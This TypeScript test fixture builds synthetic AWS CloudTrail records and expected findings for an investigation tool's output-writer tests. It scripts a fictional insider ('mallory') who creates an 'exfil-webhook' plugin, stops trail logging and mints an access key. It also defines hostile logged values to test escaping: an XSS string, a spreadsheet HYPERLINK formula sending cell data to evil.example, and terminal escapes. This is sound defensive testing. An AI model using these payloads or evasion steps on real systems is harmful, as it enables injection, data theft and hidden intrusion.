// A realistic investigation for the output writers' tests: CloudTrail records as AWS logs them
// (userIdentity with sessionContext, invokedBy and onBehalfOf; requestParameters; errorCode;
// eventCategory), normalised by the real normaliser, then answers, per-principal activity and
// stats derived from those events the way the analyses would report them. It covers every scope
// (q, related, q_invoked), flagged and unflagged rows, an unclassified Q event name and source
// problems. `extraEvents` appends synthetic Chat events, generated as they are read (never held),
// for the large-window tests.
import type { Answer, AnswerItem, AnalysisId, EventRef } from '../../runner/investigate/answers.js';
import { MAX_EVENTS_PER_ITEM } from '../../runner/investigate/answers.js';
import type { EventCatalogue, EventClass, TrailEvent } from '../../runner/investigate/event.js';
import { INVESTIGATION_SCHEMA, type Investigation, type InvestigationOutput, type PrincipalActivity } from '../../runner/investigate/investigation.js';
import { normaliseRecord } from '../../runner/investigate/normalise.js';

export const SAMPLE_ACCOUNT = '111122223333';
export const SAMPLE_APP = 'e5f6a7b8-1234-4c1e-9a2b-3d4e5f6a7b8c';
/** Markup that would run if any writer put a logged value into the page unescaped. */
export const HOSTILE_MARKUP = '</script><img src=x onerror=alert(1)>';
/** A user agent that a spreadsheet would run as a formula if the CSV left it as it is. */
export const HOSTILE_FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
/** A user agent carrying terminal escape sequences (clear screen, set the window title). */
export const HOSTILE_TERMINAL = 'curl/8.0 \u001b[2J\u001b]0;pwned\u0007';

export const WINDOW = { start: '2026-03-01T00:00:00.000Z', end: '2026-03-08T00:00:00.000Z' };
const APP_ARN = `arn:aws:qbusiness:us-east-1:${SAMPLE_ACCOUNT}:application/${SAMPLE_APP}`;

type Json = Record<string, unknown>;

// A few catalogue entries, enough for the events below: the outputs only show what it says.
const CLASSES: Record<string, Omit<EventClass, 'name'>> = {
  CreateApplication: { category: 'resource_lifecycle', operation: 'create', eventType: 'management', resourceKind: 'application' },
  CreateIndex: { category: 'resource_lifecycle', operation: 'create', eventType: 'management', resourceKind: 'index' },
  DeleteIndex: { category: 'resource_lifecycle', operation: 'delete', eventType: 'management', resourceKind: 'index' },
  CreatePlugin: { category: 'plugin', operation: 'create', eventType: 'management', resourceKind: 'plugin' },
  UpdateChatControlsConfiguration: { category: 'guardrail', operation: 'change', eventType: 'management', resourceKind: 'application' },
  Chat: { category: 'conversation', operation: 'create', eventType: 'data', resourceKind: 'conversation' },
  ChatSync: { category: 'conversation', operation: 'create', eventType: 'data', resourceKind: 'conversation' },
  BatchPutDocument: { category: 'document', operation: 'create', eventType: 'data', resourceKind: 'document' },
  ListApplications: { category: 'resource_lifecycle', operation: 'read', eventType: 'management', resourceKind: 'application' },
  SendMessage: { category: 'conversation', operation: 'create', eventType: 'management', resourceKind: 'conversation' },
  PassRequest: { category: 'other', operation: 'read', eventType: 'management', resourceKind: null },
  GenerateCompletions: { category: 'conversation', operation: 'read', eventType: 'data', resourceKind: 'profile' },
};

export const sampleCatalogue: EventCatalogue = {
  isQSource: (s) => ['qbusiness.amazonaws.com', 'qapps.amazonaws.com', 'q.amazonaws.com', 'codewhisperer.amazonaws.com'].includes(s),
  classify: (_source, name) => (CLASSES[name] ? { name, ...CLASSES[name] } : null),
};

const alice = {
  type: 'IAMUser',
  principalId: 'AIDAEXAMPLEALICE00001',
  arn: `arn:aws:iam::${SAMPLE_ACCOUNT}:user/alice`,
  accountId: SAMPLE_ACCOUNT,
  accessKeyId: 'AKIAEXAMPLEALICE0001',
  userName: 'alice',
};

const mallory = {
  type: 'AssumedRole',
  principalId: 'AROAEXAMPLEQADMIN0001:mallory',
  arn: `arn:aws:sts::${SAMPLE_ACCOUNT}:assumed-role/QBusinessAdmin/mallory`,
  accountId: SAMPLE_ACCOUNT,
  accessKeyId: 'ASIAEXAMPLEMALLORY01',
  sessionContext: {
    sessionIssuer: {
      type: 'Role',
      principalId: 'AROAEXAMPLEQADMIN0001',
      arn: `arn:aws:iam::${SAMPLE_ACCOUNT}:role/QBusinessAdmin`,
      accountId: SAMPLE_ACCOUNT,
      userName: 'QBusinessAdmin',
    },
    attributes: { creationDate: '2026-03-02T08:55:00Z', mfaAuthenticated: 'false' },
  },
};

const IDC_USER_ID = '94482488-3041-7026-18f3-be45837cd0e4';
const idcUser = {
  type: 'IdentityCenterUser',
  accountId: SAMPLE_ACCOUNT,
  onBehalfOf: { userId: IDC_USER_ID, identityStoreArn: `arn:aws:identitystore::${SAMPLE_ACCOUNT}:identitystore/d-9067642ac7` },
  credentialId: 'EXAMPLEcredential0001',
};

/** Alice's calls that Amazon Q made for her (after q:PassRequest). */
const aliceViaQ = { ...alice, invokedBy: 'q.amazonaws.com' };

const CONSOLE_UA = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';
const CLI_UA = 'aws-cli/2.17.0 md/awscrt#0.20.11 ua/2.0 os/linux#6.8 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe command/qbusiness.create-application';
const IDE_UA = 'AmazonQ-For-VSCode/1.50.0 Visual-Studio-Code/1.92.0';

interface RecordSpec {
  at: string;
  source: string;
  name: string;
  identity: Json;
  ip?: string;
  ua?: string;
  region?: string;
  request?: Json | null;
  response?: Json | null;
  resources?: { ARN: string; type: string }[];
  error?: [string, string];
  data?: boolean;
  readOnly?: boolean;
}

function eventId(n: number): string {
  return `0a1b2c3d-0000-4000-8000-${n.toString(16).padStart(12, '0')}`;
}

/** A CloudTrail record as a trail's log file holds it. */
function record(n: number, s: RecordSpec): Json {
  const r: Json = {
    eventVersion: '1.09',
    userIdentity: s.identity,
    eventTime: s.at,
    eventSource: s.source,
    eventName: s.name,
    awsRegion: s.region ?? 'us-east-1',
    sourceIPAddress: s.ip ?? '203.0.113.10',
    userAgent: s.ua ?? CONSOLE_UA,
    requestParameters: s.request ?? null,
    responseElements: s.response ?? null,
    requestID: `req-${n}`,
    eventID: eventId(n),
    readOnly: s.readOnly ?? false,
    eventType: 'AwsApiCall',
    managementEvent: !s.data,
    recipientAccountId: SAMPLE_ACCOUNT,
    eventCategory: s.data ? 'Data' : 'Management',
    tlsDetails: { tlsVersion: 'TLSv1.3', cipherSuite: 'TLS_AES_128_GCM_SHA256', clientProvidedHostHeader: `${s.source.split('.')[0]}.us-east-1.amazonaws.com` },
  };
  if (s.resources) r.resources = s.resources.map((x) => ({ accountId: SAMPLE_ACCOUNT, ...x }));
  if (s.error) {
    r.errorCode = s.error[0];
    r.errorMessage = s.error[1];
  }
  return r;
}

function baseSpecs(hostile: boolean): RecordSpec[] {
  const malloryUa = hostile ? `${CLI_UA} ${HOSTILE_MARKUP}` : CLI_UA;
  const specs: RecordSpec[] = [
    { at: '2026-03-01T09:12:03Z', source: 'q.amazonaws.com', name: 'SendMessage', identity: alice, request: { utterance: '***' }, ip: '198.51.100.7' },
    { at: '2026-03-01T09:12:05Z', source: 'q.amazonaws.com', name: 'PassRequest', identity: alice, ip: '198.51.100.7', readOnly: true },
    { at: '2026-03-01T09:12:06Z', source: 'ec2.amazonaws.com', name: 'DescribeInstances', identity: aliceViaQ, ip: 'q.amazonaws.com', ua: 'q.amazonaws.com', readOnly: true },
    { at: '2026-03-01T09:12:07Z', source: 's3.amazonaws.com', name: 'ListBuckets', identity: aliceViaQ, ip: 'q.amazonaws.com', ua: 'q.amazonaws.com', readOnly: true },
    { at: '2026-03-01T14:30:00Z', source: 'codewhisperer.amazonaws.com', name: 'GenerateCompletions', identity: idcUser, ip: '192.0.2.44', ua: IDE_UA, data: true, resources: [{ ARN: `arn:aws:codewhisperer:us-east-1:${SAMPLE_ACCOUNT}:profile/PROFILE1EXAMPLE`, type: 'AWS::CodeWhisperer::Profile' }] },
    { at: '2026-03-02T09:00:12Z', source: 'sts.amazonaws.com', name: 'AssumeRole', identity: alice, request: { roleArn: `arn:aws:iam::${SAMPLE_ACCOUNT}:role/QBusinessAdmin`, roleSessionName: 'mallory' }, readOnly: true },
    { at: '2026-03-02T09:01:40Z', source: 'qbusiness.amazonaws.com', name: 'CreateApplication', identity: mallory, ip: '203.0.113.99', ua: malloryUa, request: { displayName: 'shadow-assistant', identityType: 'AWS_IAM_IDC' }, response: { applicationId: SAMPLE_APP, applicationArn: APP_ARN } },
    { at: '2026-03-02T09:02:10Z', source: 'qbusiness.amazonaws.com', name: 'CreateIndex', identity: mallory, ip: '203.0.113.99', ua: malloryUa, request: { applicationId: SAMPLE_APP, displayName: 'docs', type: 'STARTER' }, response: { indexId: 'idx-0001' } },
    { at: '2026-03-02T09:03:00Z', source: 'qbusiness.amazonaws.com', name: 'CreatePlugin', identity: mallory, ip: '203.0.113.99', ua: malloryUa, request: { applicationId: SAMPLE_APP, displayName: 'exfil-webhook', type: 'CUSTOM' }, response: { pluginId: 'plg-0001' } },
    { at: '2026-03-02T09:04:30Z', source: 'qbusiness.amazonaws.com', name: 'UpdateChatControlsConfiguration', identity: mallory, ip: '203.0.113.99', ua: malloryUa, request: { applicationId: SAMPLE_APP, responseScope: 'EXTENDED_KNOWLEDGE_ENABLED', blockedPhrasesConfigurationUpdate: { blockedPhrasesToDelete: ['confidential'] } } },
    { at: '2026-03-02T09:05:00Z', source: 'cloudtrail.amazonaws.com', name: 'PutEventSelectors', identity: mallory, ip: '203.0.113.99', ua: malloryUa, request: { trailName: 'org-trail', advancedEventSelectors: [] } },
    { at: '2026-03-02T09:06:00Z', source: 'cloudtrail.amazonaws.com', name: 'StopLogging', identity: mallory, ip: '203.0.113.99', ua: malloryUa, request: { name: `arn:aws:cloudtrail:us-east-1:${SAMPLE_ACCOUNT}:trail/org-trail` }, resources: [{ ARN: `arn:aws:cloudtrail:us-east-1:${SAMPLE_ACCOUNT}:trail/org-trail`, type: 'AWS::CloudTrail::Trail' }] },
    { at: '2026-03-02T09:07:00Z', source: 'iam.amazonaws.com', name: 'CreateAccessKey', identity: mallory, ip: '203.0.113.99', ua: malloryUa, region: 'us-east-1', request: { userName: 'svc-backup' } },
    { at: '2026-03-02T10:00:00Z', source: 'qbusiness.amazonaws.com', name: 'BatchPutDocument', identity: mallory, ip: '203.0.113.99', ua: malloryUa, data: true, request: { applicationId: SAMPLE_APP, indexId: 'idx-0001', documents: [{ id: 'payroll.xlsx' }] }, resources: [{ ARN: `${APP_ARN}/index/idx-0001`, type: 'AWS::QBusiness::Index' }] },
    { at: '2026-03-03T11:20:00Z', source: 'qbusiness.amazonaws.com', name: 'DeleteIndex', identity: mallory, ip: '203.0.113.99', ua: malloryUa, request: { applicationId: SAMPLE_APP, indexId: 'idx-0001' } },
    {
      at: '2026-03-03T11:25:00Z',
      source: 'qbusiness.amazonaws.com',
      name: hostile ? `StartFrobnication${HOSTILE_MARKUP}` : 'StartFrobnication',
      identity: mallory,
      ip: '203.0.113.99',
      ua: malloryUa,
      request: { applicationId: SAMPLE_APP },
    },
  ];
  for (let k = 0; k < 4; k++) {
    specs.push({ at: `2026-03-01T15:0${k}:00Z`, source: 'qbusiness.amazonaws.com', name: 'Chat', identity: idcUser, ip: '192.0.2.44', ua: CONSOLE_UA, data: true, request: { applicationId: SAMPLE_APP, userMessage: '***' }, resources: [{ ARN: APP_ARN, type: 'AWS::QBusiness::Application' }] });
  }
  for (let k = 0; k < 6; k++) {
    specs.push({
      at: `2026-03-04T02:1${k}:00Z`,
      source: 'qbusiness.amazonaws.com',
      name: 'ListApplications',
      identity: mallory,
      ip: '198.51.100.23',
      ua: hostile && k === 0 ? HOSTILE_FORMULA : hostile && k === 1 ? HOSTILE_TERMINAL : 'python-requests/2.31',
      region: k % 2 ? 'eu-west-1' : 'us-east-1',
      readOnly: true,
      error: ['AccessDenied', `User: ${mallory.arn} is not authorized to perform: qbusiness:ListApplications`],
    });
  }
  return specs.sort((a, b) => a.at.localeCompare(b.at));
}

function normalised(raw: Json): TrailEvent {
  const event = normaliseRecord(raw, sampleCatalogue);
  if (!event) throw new Error(`sample record not normalised: ${JSON.stringify(raw)}`);
  return event;
}

/** The k-th synthetic Chat event, after every base event (so the window stays in time order). */
export function syntheticEvent(k: number): TrailEvent {
  const at = new Date(Date.parse('2026-03-05T00:00:00Z') + k * 1000).toISOString();
  return normalised(
    record(100_000 + k, {
      at,
      source: 'qbusiness.amazonaws.com',
      name: k % 3 ? 'Chat' : 'ChatSync',
      identity: idcUser,
      ip: `192.0.2.${k % 200}`,
      ua: CONSOLE_UA,
      data: true,
      request: { applicationId: SAMPLE_APP, userMessage: '***', conversationId: `conv-${k % 97}` },
      resources: [{ ARN: APP_ARN, type: 'AWS::QBusiness::Application' }],
    }),
  );
}

export function refOf(e: TrailEvent): EventRef {
  return {
    eventId: e.eventId,
    eventTime: e.eventTime,
    eventName: e.eventName,
    eventSource: e.eventSource,
    principal: e.principal.key,
    sourceIp: e.sourceIp,
    userAgent: e.userAgent,
    region: e.region,
    resource: e.resources[0]?.arn ?? e.applicationId,
    errorCode: e.errorCode,
  };
}

function item(label: string, events: TrailEvent[], flagged: boolean, detail: AnswerItem['detail'] = {}): AnswerItem {
  return { label, detail, flagged, eventCount: events.length, events: events.slice(0, MAX_EVENTS_PER_ITEM).map(refOf) };
}

function answer(id: AnalysisId, question: string, summary: string, items: AnswerItem[], omittedItems = 0): Answer {
  return { id, question, summary, flagged: items.some((i) => i.flagged), items, omittedItems };
}

function answersOf(events: TrailEvent[], hostile: boolean): Answer[] {
  const named = (...names: string[]): TrailEvent[] => events.filter((e) => names.includes(e.qClass?.name ?? e.eventName));
  const one = (name: string): TrailEvent[] => named(name).slice(0, 1);
  const chats = named('Chat');
  const denied = events.filter((e) => e.errorCode === 'AccessDenied');
  const unknownIp = events.filter((e) => e.sourceIp === '203.0.113.99' || e.sourceIp === '198.51.100.23');
  const unknownName = events.filter((e) => e.scope === 'q' && e.qClass === null);
  return [
    answer('resources_created_deleted', 'Which Amazon Q resources were created and deleted?', '2 resources created, 1 deleted', [
      item(`application ${SAMPLE_APP} created`, one('CreateApplication'), false, { kind: 'application', id: SAMPLE_APP, name: 'shadow-assistant' }),
      item('index idx-0001 created', one('CreateIndex'), false, { kind: 'index', id: 'idx-0001' }),
      item('index idx-0001 deleted', one('DeleteIndex'), false, { kind: 'index', id: 'idx-0001', deleted: true }),
    ]),
    answer('plugins', 'Which plugins were used, created or changed?', '1 plugin created', [
      item(hostile ? `plugin exfil-webhook ${HOSTILE_MARKUP} created` : 'plugin exfil-webhook created', one('CreatePlugin'), false, { type: 'CUSTOM', id: 'plg-0001' }),
    ]),
    answer(
      'application_access',
      'Which applications could principals reach, and which were used?',
      '1 principal used 1 application',
      [item(`Identity Center user ${IDC_USER_ID} chatted with ${SAMPLE_APP}`, chats, false, { chats: chats.length, application: SAMPLE_APP })],
      3,
    ),
    answer('documents', 'Were files or documents uploaded or deleted?', '1 upload, no deletion', [item('BatchPutDocument into index idx-0001', one('BatchPutDocument'), false, { documents: 1 })]),
    answer('ide_usage', 'Did Amazon Q reach an IDE?', 'Q Developer used from VS Code by 1 user', [item('AmazonQ-For-VSCode 1.50.0', one('GenerateCompletions'), false, { ide: 'Visual Studio Code' })]),
    answer('tampering', 'Were guardrails or logging tampered with?', '3 guardrail or logging changes', [
      item('chat controls changed: response scope EXTENDED_KNOWLEDGE_ENABLED', one('UpdateChatControlsConfiguration'), true, { application: SAMPLE_APP }),
      item('data-event selectors replaced on trail org-trail', one('PutEventSelectors'), true, { trail: 'org-trail' }),
      item('logging stopped on trail org-trail', one('StopLogging'), true, { trail: 'org-trail' }),
    ]),
    answer(
      'actions_by_q',
      'Which actions did Amazon Q perform on a user\u2019s behalf?',
      '2 calls made by Amazon Q for alice',
      events.filter((e) => e.scope === 'q_invoked').map((e) => item(`${e.eventName} for alice`, [e], false, { service: e.eventSource })),
    ),
    answer('unknown_activity', 'Was there unknown activity?', '2 unknown source IPs, 1 unknown event name, 1 AccessDenied burst', [
      item('source IP 203.0.113.99 not seen in the baseline', unknownIp.filter((e) => e.sourceIp === '203.0.113.99'), true, { sourceIp: '203.0.113.99' }),
      item('source IP 198.51.100.23 not seen in the baseline', unknownIp.filter((e) => e.sourceIp === '198.51.100.23'), true, { sourceIp: '198.51.100.23' }),
      item(`event name ${unknownName[0]?.eventName ?? ''} not in the catalogue`, unknownName, true, { eventName: unknownName[0]?.eventName ?? null }),
      item('6 AccessDenied in 6 minutes', denied, true, { denied: denied.length, windowMinutes: 6 }),
    ]),
  ];
}

function principalsOf(events: TrailEvent[]): PrincipalActivity[] {
  const by = new Map<string, { p: PrincipalActivity; names: Map<string, number> }>();
  const add = (list: string[], v: string | null): void => {
    if (v && !list.includes(v)) list.push(v);
  };
  for (const e of events) {
    let entry = by.get(e.principal.key);
    if (!entry) {
      entry = {
        p: {
          key: e.principal.key,
          name: e.principal.name,
          type: e.principal.type,
          arn: e.principal.arn,
          firstSeen: e.eventTime,
          lastSeen: e.eventTime,
          qEvents: 0,
          relatedEvents: 0,
          qInvokedEvents: 0,
          deniedEvents: 0,
          eventNames: [],
          applications: [],
          sourceIps: [],
          userAgents: [],
          regions: [],
        },
        names: new Map(),
      };
      by.set(e.principal.key, entry);
    }
    const { p, names } = entry;
    p.lastSeen = e.eventTime;
    if (e.scope === 'q') p.qEvents++;
    else if (e.scope === 'related') p.relatedEvents++;
    else p.qInvokedEvents++;
    if (e.errorCode === 'AccessDenied') p.deniedEvents++;
    names.set(e.eventName, (names.get(e.eventName) ?? 0) + 1);
    add(p.applications, e.applicationId);
    add(p.sourceIps, e.sourceIp);
    add(p.userAgents, e.userAgent);
    add(p.regions, e.region);
  }
  return [...by.values()].map(({ p, names }) => ({
    ...p,
    eventNames: [...names].sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0])).map(([name, count]) => ({ name, count })),
  }));
}

export interface SampleOptions {
  /** Put markup, a spreadsheet formula and terminal escapes into logged values (default false). */
  hostile?: boolean;
  /** Synthetic Chat events appended to the window, generated as read (default 0). */
  extraEvents?: number;
  /** Leave out the source problems (default false). */
  noProblems?: boolean;
}

export interface Sample {
  output: InvestigationOutput;
  /** The base events (not the synthetic ones), in time order. */
  events: TrailEvent[];
  /** How many times events() was started (the writers must stream, not read it twice or more). */
  reads(): number;
}

export function sampleInvestigation(options: SampleOptions = {}): Sample {
  const hostile = options.hostile ?? false;
  const extra = options.extraEvents ?? 0;
  const events = baseSpecs(hostile).map((s, n) => normalised(record(n + 1, s)));
  const scoped = (scope: TrailEvent['scope']): number => events.filter((e) => e.scope === scope).length;
  const unclassified = new Map<string, { eventSource: string; eventName: string; count: number }>();
  for (const e of events) {
    if (e.scope !== 'q' || e.qClass) continue;
    const key = `${e.eventSource} ${e.eventName}`;
    const u = unclassified.get(key) ?? { eventSource: e.eventSource, eventName: e.eventName, count: 0 };
    u.count++;
    unclassified.set(key, u);
  }
  const answers = answersOf(events, hostile);
  const investigation: Investigation = {
    schema: INVESTIGATION_SCHEMA,
    run: {
      id: '6b0f3c52-8a8e-4d4b-9d0e-2f6f1a7c9e11',
      toolVersion: '0.1.0',
      startedAt: '2026-03-08T10:15:30.000Z',
      finishedAt: '2026-03-08T10:16:02.500Z',
      source: 'files:/var/incident/AWSLogs',
      window: WINDOW,
      baseline: { start: '2026-01-30T00:00:00.000Z', end: WINDOW.start },
      filters: { principals: [], regions: [], applications: [] },
      accounts: [SAMPLE_ACCOUNT],
      regions: ['eu-west-1', 'us-east-1'],
    },
    stats: {
      recordsRead: (events.length + extra) * 20 + 1234,
      unitsRead: 48,
      qEvents: scoped('q') + extra,
      relatedEvents: scoped('related'),
      qInvokedEvents: scoped('q_invoked'),
      baselineEvents: 5120,
      unclassifiedEvents: [...unclassified.values()].reduce((n, u) => n + u.count, 0),
    },
    problems: options.noProblems
      ? []
      : [
          {
            where: `AWSLogs/${SAMPLE_ACCOUNT}/CloudTrail/us-east-1/2026/03/02/${SAMPLE_ACCOUNT}_CloudTrail_us-east-1_20260302T0905Z_Xw3v.json.gz`,
            message: 'unexpected end of file (truncated gzip)',
          },
          { where: 'lookup eu-west-1', message: hostile ? `AccessDeniedException ${HOSTILE_MARKUP}` : 'AccessDeniedException: not authorized to perform cloudtrail:LookupEvents' },
        ],
    answers,
    principals: principalsOf(events),
    unclassified: [...unclassified.values()],
    flagged: answers.some((a) => (a.id === 'tampering' || a.id === 'unknown_activity') && a.flagged),
  };
  let reads = 0;
  const output: InvestigationOutput = {
    investigation,
    eventCount: events.length + extra,
    async *events() {
      reads++;
      for (const e of events) yield e;
      for (let k = 0; k < extra; k++) yield syntheticEvent(k);
    },
  };
  return { output, events, reads: () => reads };
}

/** The same investigation with nothing flagged (no tampering, no unknown activity). */
export function quietInvestigation(): Sample {
  const sample = sampleInvestigation({ noProblems: true });
  const inv = sample.output.investigation;
  inv.answers = inv.answers
    .filter((a) => a.id !== 'tampering' && a.id !== 'unknown_activity')
    .concat([
      { id: 'tampering', question: 'Were guardrails or logging tampered with?', summary: 'no guardrail or logging change', flagged: false, items: [], omittedItems: 0 },
      { id: 'unknown_activity', question: 'Was there unknown activity?', summary: 'nothing outside the baseline', flagged: false, items: [], omittedItems: 0 },
    ]);
  inv.flagged = false;
  return sample;
}
